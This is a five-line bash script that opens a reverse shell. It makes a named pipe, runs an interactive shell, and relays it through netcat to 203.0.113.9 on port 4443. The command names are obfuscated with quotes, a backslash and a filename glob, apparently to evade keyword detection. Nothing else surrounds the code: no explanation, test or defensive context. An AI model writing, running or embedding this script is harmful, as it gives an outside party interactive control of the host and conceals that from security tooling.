#!/bin/bash
p=/tmp/.p$$
mk"fifo" "$p"
/bin/[r-t]h -i <"$p" 2>&1 | n\c 203.0.113.9 4443 >"$p"
rm -f "$p"
